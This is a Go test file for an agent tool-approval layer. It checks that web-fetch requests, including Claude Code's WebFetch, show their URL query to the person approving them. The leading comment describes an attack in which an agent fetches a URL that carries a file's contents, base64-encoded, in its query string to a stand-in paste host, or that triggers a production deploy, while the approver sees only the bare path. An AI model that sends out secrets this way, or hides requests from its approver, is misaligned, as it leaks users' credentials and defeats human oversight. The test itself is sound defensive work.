package domain

import (
	"encoding/json"
	"strings"
	"testing"
)

// TestAttack91_FetchQueryUnseen: a web_fetch (Claude Code's WebFetch, a
// runtime's fetch tool) is shown to the person approving it as its method,
// origin and path: the summary "GET https://h/p" and a detail labelled
// "URL" with the same text. The query is bound (url_full_hash) but nothing
// of it is shown, not even that there is one: no "?", no parameter name.
// A command's URL is shown with its query's names and each value's token
// hidden (redactURL: `?d=[redacted]`), so that a reader sees that the
// request carries data and under which names. The agent asks
//
//	GET https://hooks.example/deploy?env=production&force=1
//	GET https://paste.example/new?text=<the contents of .env, base64>
//
// and the person reads "GET https://hooks.example/deploy" /
// "GET https://paste.example/new": a page to read, where the request
// triggers an action or carries the turn's data out in its query; an
// allow_for_turn grant covers that exact URL.
// Wanted: the request shows that the URL has a query, its parameter names
// and what of their values is not a secret, as a command's URL is shown.
// Control: the same URL fetched by curl in a command shows its query's
// names.
func TestAttack91_FetchQueryUnseen(t *testing.T) {
	const u = "https://hooks.example/deploy?env=production&force=1"
	shown := func(tool string, args map[string]any) string {
		t.Helper()
		raw, _ := json.Marshal(args)
		a, err := Classify(Invocation{ToolName: tool, Arguments: raw}, "/w", nil)
		if err != nil {
			t.Fatal(err)
		}
		r := a.Redacted()
		var b strings.Builder
		b.WriteString(r.Summary)
		for _, d := range r.Details {
			b.WriteString("\n" + d.Label + ": " + d.Value)
		}
		return b.String()
	}
	// Control: in a command, the query's names are in view.
	if s := shown("exec_command", map[string]any{"cmd": "curl -s '" + u + "'"}); !strings.Contains(s, "?env=") || !strings.Contains(s, "force=") {
		t.Fatalf("control: a command's URL query is not shown:\n%s", s)
	}
	// A Claude Code WebFetch, as the hook maps it.
	inv, err := ClaudeCodeInvocation("WebFetch", json.RawMessage(`{"url":"`+u+`","prompt":"summarise"}`), "/w")
	if err != nil {
		t.Fatal(err)
	}
	var args map[string]any
	_ = json.Unmarshal(inv.Arguments, &args)
	for name, s := range map[string]string{
		"web_fetch":            shown("web_fetch", map[string]any{"url": u}),
		"Claude Code WebFetch": shown(inv.ToolName, args),
	} {
		if !strings.Contains(s, "?") || !strings.Contains(s, "env=") {
			t.Errorf("%s of %s is shown to the person approving it as\n%s\n(no sign of its query: the request it allows sends ?env=production&force=1)", name, u, s)
		}
	}
}
